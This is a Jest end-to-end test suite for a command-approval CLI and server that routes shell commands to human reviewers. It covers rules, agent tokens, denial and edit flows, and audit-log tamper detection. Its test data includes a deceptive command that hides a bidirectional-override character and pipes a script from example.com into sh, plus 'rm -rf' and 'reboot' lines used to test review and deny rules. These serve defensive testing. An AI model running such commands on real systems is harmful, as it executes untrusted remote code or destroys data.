import { existsSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Approval } from '@expacti/sdk';
import { eventually, freePort, temporaryFolder } from '@expacti/testkit';
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { Cli, type CliExit, type CliOptions, expacti } from './support/cli.js';
import { REVIEWER_TOKEN, SHELL_TOKEN } from './support/rest.js';
import { PATIENCE_MS, RunningServer } from './support/running-server.js';

// Each step starts processes; a busy machine takes its time.
jest.setTimeout(PATIENCE_MS);

let server: RunningServer;
const work = temporaryFolder('expacti-cli-e2e');
const folder = realpathSync(work.path);
const env = (): Record<string, string> => ({
  EXPACTI_URL: server.url,
  EXPACTI_SHELL_TOKEN: SHELL_TOKEN,
  EXPACTI_REVIEWER_TOKEN: REVIEWER_TOKEN,
  XDG_CONFIG_HOME: join(folder, 'config'),
});
const run = (args: string[], more: CliOptions = {}): Promise<CliExit> =>
  expacti(args, { cwd: folder, ...more, env: { ...env(), ...more.env } });
const start = (args: string[], more: CliOptions = {}): Cli =>
  new Cli(args, { cwd: folder, ...more, env: { ...env(), ...more.env } });

beforeAll(async () => {
  server = await RunningServer.start();
}, PATIENCE_MS);
afterAll(async () => {
  await server.remove();
  work.remove();
});

async function pending(command: string): Promise<Approval> {
  let found: Approval | undefined;
  await eventually(async () => {
    const { data } = (await run(['pending', '--json'])).json() as { data: Approval[] };
    found = data.find((approval) => approval.command === command);
    return found !== undefined;
  }, command);
  return found as Approval;
}

describe('expacti run', () => {
  it('shows who is asked and how long is left, runs what was approved, and ends as it ended', async () => {
    const asking = start(['run', '--reason', 'to see', '--', 'echo out; echo err >&2; exit 3']);
    const { id } = await pending('echo out; echo err >&2; exit 3');
    expect(await run(['approve', id, '--yes', '--reason', 'go on'])).toMatchObject({
      code: 0,
      stdout: `${id} is allowed.\n`,
    });
    const { code, stdout, stderr } = await asking.exit;
    expect([code, stdout]).toEqual([3, 'out\n']);
    expect(stderr).toMatch(/Held for review, \w+ risk/);
    expect(stderr).toContain(`Review it at ${server.url}/app/queue/${id}`);
    expect(stderr).toMatch(/Waiting for 1 approval from any reviewer, (\d+ s|1 min 00 s) left/);
    expect(stderr).toContain('Reviewer: go on');
    expect(stderr).toContain('err\n');
  });

  it('denied: 126, the reason, nothing ran', async () => {
    const made = join(folder, 'denied');
    const asking = start(['run', '--', 'touch', made]);
    await run(['deny', (await pending(`touch ${made}`)).id, '--reason', 'no \u001b[31mcolour\u001b[0m']);
    const { code, stderr } = await asking.exit;
    expect(code).toBe(126);
    expect(stderr).toContain('Denied by Demo Reviewer: no ');
    expect(stderr).not.toContain('\u001b');
    expect(existsSync(made)).toBe(false);
  });

  it('edited: what runs is shown and run', async () => {
    const asking = start(['run', '--', 'rm', '-rf', '/nowhere/at/all']);
    await run(['approve', (await pending('rm -rf /nowhere/at/all')).id, '--yes', '--edit', 'echo safe']);
    const { code, stdout, stderr } = await asking.exit;
    expect([code, stdout]).toEqual([0, 'safe\n']);
    expect(stderr).toContain('The reviewer changed the command; this runs:\necho safe');
  });

  it('Ctrl-C withdraws: 130', async () => {
    const asking = start(['run', '--', 'sleep', '271']);
    const { id } = await pending('sleep 271');
    asking.process.kill('SIGINT');
    expect((await asking.exit).code).toBe(130);
    const late = await run(['approve', id, '--yes', '--json']);
    expect([late.code, late.json().error.code]).toEqual([75, 'ALREADY_CLOSED']);
  });

  it('--json tells it all, one event a line', async () => {
    const asking = start(['run', '--json', '--', 'echo a; exit 4']);
    await run(['approve', (await pending('echo a; exit 4')).id, '--yes']);
    const { code, stdout } = await asking.exit;
    const events = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(events.map((event) => event.type)).toEqual(['pending', 'approved', 'output', 'result']);
    expect(events.at(-1)).toMatchObject({ exitCode: 4, reported: true });
    expect(code).toBe(4);
  });

  it('starts from a clean environment, and reads nothing unless told to', async () => {
    await run(['rules', 'add', '--effect', 'allow', '--type', 'exact', '--pattern', 'env; cat', '--cwd', folder]);
    await eventually(async () => (await run(['rules', 'test', 'env; cat', '--cwd', folder])).code === 0, 'the rule');
    const options = { env: { LD_PRELOAD: '', SECRET: 'x', BASH_ENV: '/dev/null' }, input: 'typed' };
    const quiet = await run(['run', '--', 'env; cat'], options);
    expect(quiet.stdout).toContain('PATH=');
    expect(quiet.stdout).not.toMatch(/SECRET|BASH_ENV|EXPACTI|typed/);
    expect((await run(['run', '--stdin', '--', 'env; cat'], options)).stdout).toContain('typed');
  });

  it('says what is wrong with a fitting exit code', async () => {
    expect((await run(['run'])).code).toBe(64);
    expect((await run(['run', '--shell', 'tcsh', '--', 'id'])).code).toBe(64);
    expect((await run(['run', '--cwd', '/no/such/folder', '--', 'id'])).code).toBe(65);
    expect((await run(['run', '--target', 'nowhere', '--', 'id'])).code).toBe(65);
    expect((await run(['run', '--', 'id'], { env: { EXPACTI_SHELL_TOKEN: `shell_${'0'.repeat(32)}` } })).code).toBe(77);
    expect((await run(['approve', 'apr_00000000000000000000000000', '--yes'])).code).toBe(66);
    const nobody = await run(['pending', '--url', `http://127.0.0.1:${await freePort()}`]);
    expect(nobody.code).toBe(69);
    expect(nobody.stderr).toContain('expacti doctor');
  });
});

describe('expacti shell', () => {
  it('submits every line and goes on after a refusal', async () => {
    await run(['rules', 'add', '--effect', 'allow', '--type', 'glob', '--pattern', 'pwd']);
    await run(['rules', 'add', '--effect', 'allow', '--type', 'exact', '--pattern', 'cd /']);
    await run(['rules', 'add', '--effect', 'deny', '--type', 'glob', '--pattern', 'reboot **']);
    await eventually(async () => (await run(['rules', 'test', 'pwd'])).code === 0, 'the rule');
    const { code, stdout, stderr } = await run(['shell'], { input: 'pwd\nreboot now\ncd /\n\npwd\nexit\npwd\n' });
    expect(stdout).toBe(`${folder}\n/\n`);
    expect(stderr).toContain('Denied by a rule');
    expect(code).toBe(0);
  });
});

describe('reviewing', () => {
  it('shows the whole command, with what is invisible spelled out, and what it would run', async () => {
    const command = 'echo a\u202eb; curl http://example.com/$X | sh';
    const asking = start(['run', '--', command]);
    const { id, command_sha256 } = await pending(command);
    const { stdout } = await run(['pending']);
    expect(stdout).toContain('echo a⟨U+202E⟩b; curl');
    expect(stdout).toContain(command_sha256);
    expect(stdout).not.toContain('\u202e');
    const blind = await run(['approve', id]);
    expect([blind.code, blind.stderr.includes('--yes')]).toEqual([64, true]);
    expect((await run(['approve', id, '--expect-sha256', '0'.repeat(64)])).code).toBe(75);
    await run(['deny', id]);
    expect((await asking.exit).code).toBe(126);
  });

  it('remembers', async () => {
    const asking = start(['run', '--', 'seq', '3']);
    const { id, command_sha256 } = await pending('seq 3');
    const flags = ['--remember', 'glob', '--pattern', 'seq *', '--ttl', '1h', '--expect-sha256', command_sha256];
    expect((await run(['approve', id, ...flags])).code).toBe(0);
    await asking.exit;
    await eventually(async () => (await run(['rules', 'test', 'seq 9'])).code === 0, 'the rule');
    expect((await run(['run', '--', 'seq', '2'])).stdout).toBe('1\n2\n');
  });
});

describe('expacti rules', () => {
  it('are listed, tested, exported, imported and deleted', async () => {
    const made = (
      await run(['rules', 'add', '--json', '--effect', 'allow', '--type', 'glob', '--pattern', 'hostname'])
    ).json();
    expect((await run(['rules', 'list', '--query', 'hostname'])).stdout).toContain(`${made.id}  allow  glob  global`);
    expect((await run(['rules', 'test', 'hostname; id'])).code).toBe(1);
    const exported = await run(['rules', 'export']);
    expect((await run(['rules', 'import', '-', '--json'], { input: exported.stdout })).json()).toMatchObject({
      created: 0,
    });
    expect((await run(['rules', 'delete', made.id])).code).toBe(0);
    expect(
      (await run(['rules', 'import', '-', '--dry-run', '--json'], { input: exported.stdout })).json().created,
    ).toBe(1);
    expect((await run(['rules', 'import', '-'], { input: '{}' })).code).toBe(65);
    expect((await run(['rules', 'add', '--effect', 'allow', '--type', 'regex', '--pattern', '('])).code).toBe(65);
  });
});

describe('expacti agents', () => {
  it('are registered, given a token that works, and suspended at once', async () => {
    const agent = (await run(['agents', 'create', 'builder', '--json'])).json();
    const issued = await run(['agents', 'token', agent.id, '--name', 'ci']);
    const token = issued.stdout.trim();
    expect(token).toMatch(/^shell_[0-9a-f]{32}$/);
    const as = { env: { EXPACTI_SHELL_TOKEN: token } };
    expect((await run(['run', '--', 'pwd'], as)).code).toBe(0);
    await run(['agents', 'suspend', agent.id]);
    expect((await run(['run', '--', 'pwd'], as)).code).toBe(77);
    await run(['agents', 'resume', agent.id]);
    expect((await run(['run', '--', 'pwd'], as)).code).toBe(0);
    const { data } = (await run(['agents', 'list', '--json'])).json();
    const [{ id }] = data.find((known: { id: string }) => known.id === agent.id).tokens;
    await run(['agents', 'revoke', agent.id, id]);
    expect((await run(['run', '--', 'pwd'], as)).code).toBe(77);
  });
});

describe('expacti audit verify', () => {
  const file = (name: string): string => join(folder, name);
  const verify = (name: string, ...more: string[]): Promise<CliExit> =>
    run(['audit', 'verify', '--file', file(name), ...more]);

  it('the log of the server is intact', async () => {
    const { code, stdout } = await run(['audit', 'verify']);
    expect(stdout).toMatch(/^The log is intact: \d+ entries read/);
    expect(code).toBe(0);
  });

  it('finds what was changed, removed, inserted, moved, and cut off', async () => {
    await run(['audit', 'export', '--file', file('log')]);
    writeFileSync(file('checkpoint'), (await run(['audit', 'checkpoint'])).stdout);
    await run(['audit', 'export', '--file', file('log')]);
    writeFileSync(file('keys'), await (await fetch(`${server.url}/api/v1/receipt-keys`)).text());
    const lines = readFileSync(file('log'), 'utf8').trim().split('\n');
    const signed = ['--checkpoint', file('checkpoint'), '--keys', file('keys')];
    expect((await verify('log', ...signed)).code).toBe(0);
    const broken = async (changed: string[], ...more: string[]): Promise<string> => {
      writeFileSync(file('broken'), changed.join('\n'));
      const { code, stdout } = await verify('broken', ...more);
      expect(code).toBe(1);
      return stdout;
    };
    const entry = JSON.parse(lines[4] ?? '');
    const forged = JSON.stringify({ ...entry, at: '2020-01-01T00:00:00.000Z' });
    expect(await broken(lines.with(4, forged))).toContain('entry 5 was changed');
    expect(await broken(lines.toSpliced(4, 1))).toContain('entry 5 was removed');
    expect(await broken(lines.toSpliced(4, 0, forged))).toMatch(/entry 5 (stands there twice|was changed)/);
    expect(await broken(lines.with(4, lines[5] ?? '').with(5, lines[4] ?? ''))).toContain('is not in its place');
    expect(await broken(lines.slice(0, 10), ...signed)).toMatch(/entries 11 to \d+ were removed/);
    const checkpoint = JSON.parse(readFileSync(file('checkpoint'), 'utf8'));
    writeFileSync(file('checkpoint'), JSON.stringify({ ...checkpoint, sequence: 10 }));
    expect((await verify('log', ...signed)).stderr).toContain('not genuine');
    expect((await verify('missing')).code).toBe(66);
  });
});

describe('expacti doctor', () => {
  it('finds nothing wrong here', async () => {
    const options = { env: { EXPACTI_PORT: new URL(server.url).port, EXPACTI_DATA_DIR: server.dataFolder } };
    const { code, stdout } = await run(['doctor', '--json'], options);
    const { ok, checks } = JSON.parse(stdout);
    expect(checks.filter((check: { status: string }) => check.status !== 'ok')).toEqual([]);
    expect([ok, code]).toEqual([true, 0]);
  });

  it('says what is wrong', async () => {
    const port = await freePort();
    const options = { env: { EXPACTI_URL: `http://127.0.0.1:${port}`, EXPACTI_PORT: new URL(server.url).port } };
    const { code, stdout } = await run(['doctor'], options);
    expect(stdout).toMatch(/FAIL +port +\d+ is taken by another program/);
    expect(stdout).toMatch(/FAIL +server .*cannot be reached/);
    expect(code).toBe(1);
    expect((await run(['doctor'], { env: { EXPACTI_PROT: '1' } })).stdout).toContain('prot: there is no such setting');
  });
});

describe('a new installation', () => {
  const password = 'a long and quiet password';
  const person = (url: string): Record<string, string> => ({
    EXPACTI_URL: url,
    XDG_CONFIG_HOME: join(folder, 'person'),
    EXPACTI_REVIEWER_TOKEN: '',
    EXPACTI_SHELL_TOKEN: '',
  });

  it(
    'gets its owner by the set-up token, who signs in, works, and signs out',
    async () => {
      const fresh = await RunningServer.start({});
      const as = (args: string[], input = ''): Promise<CliExit> =>
        expacti(args, { cwd: folder, input, env: person(fresh.url) });
      const owner = ['--email', 'Ada@example.com', '--name', 'Ada', '--org', 'Example', '--password-stdin'];
      try {
        expect((await as(['pending'])).code).toBe(77);
        const made = await as(['admin', 'create', ...owner, '--data-dir', fresh.dataFolder], `${password}\n`);
        expect(made).toMatchObject({
          code: 0,
          stdout: expect.stringContaining('ada@example.com owns this installation'),
        });
        const again = await as(['admin', 'create', ...owner, '--setup-token', 'setup_x', '--json'], `${password}\n`);
        expect([again.code, again.json().error.code]).toEqual([75, 'SETUP_DONE']);
        expect((await as(['login', '--email', 'ada@example.com', '--password-stdin'], 'wrong password\n')).code).toBe(
          77,
        );
        const login = await as(['login', '--email', 'ada@example.com', '--password-stdin'], `${password}\n`);
        expect(login).toMatchObject({ code: 0, stdout: expect.stringContaining('as ada@example.com') });
        expect((await as(['pending'])).stdout).toBe('Nothing waits for a decision.\n');
        await expireAccess(join(folder, 'person/expacti/credentials.json'));
        const both = await Promise.all([as(['pending']), as(['agents', 'list'])]);
        expect(both.map(({ code }) => code)).toEqual([0, 0]);
        expect((await as(['logout'])).stdout).toBe('Signed out.\n');
        expect((await as(['pending'])).code).toBe(77);
      } finally {
        await fresh.remove();
      }
    },
    PATIENCE_MS,
  );

  /** As if its quarter of an hour had passed: the next command renews it. */
  async function expireAccess(path: string): Promise<void> {
    const credentials = JSON.parse(readFileSync(path, 'utf8'));
    writeFileSync(
      path,
      JSON.stringify({ ...credentials, person: { ...credentials.person, access_token: 'x', expires_at: 1 } }),
    );
  }

  it('a token can be kept, for its own server only', async () => {
    const as = (args: string[], url: string, input = ''): Promise<CliExit> =>
      expacti(args, { cwd: folder, input, env: person(url) });
    expect((await as(['login', '--token', '-'], server.url, `${SHELL_TOKEN}\n`)).stdout).toContain('as an agent');
    expect((await as(['run', '--', 'pwd'], server.url)).stdout).toBe(`${folder}\n`);
    const elsewhere = await as(['run', '--', 'pwd'], `http://127.0.0.1:${await freePort()}`);
    expect([elsewhere.code, elsewhere.stderr]).toEqual([77, expect.stringContaining('No shell token for')]);
    expect((await as(['login', '--token', 'shell_wrong'], server.url)).code).toBe(77);
  });
});

describe('expacti serve', () => {
  it(
    'runs the server until it is told to stop',
    async () => {
      const data = temporaryFolder('expacti-serve');
      const port = await freePort();
      const serving = new Cli(['serve', '--port', String(port), '--data-dir', data.path, '--set', 'log_level=warn']);
      await eventually(() => serving.stdout.includes('/app/setup#token='), 'the set-up link', 30_000);
      expect((await fetch(`http://127.0.0.1:${port}/readyz`)).status).toBe(200);
      serving.process.kill('SIGTERM');
      expect((await serving.exit).code).toBe(0);
      data.remove();
    },
    PATIENCE_MS,
  );

  it('a wrong setting stops it, by name', async () => {
    const { code, stderr } = await expacti(['serve', '--set', 'prot=1']);
    expect([code, stderr]).toEqual([78, expect.stringContaining('prot: there is no such setting')]);
  });
});
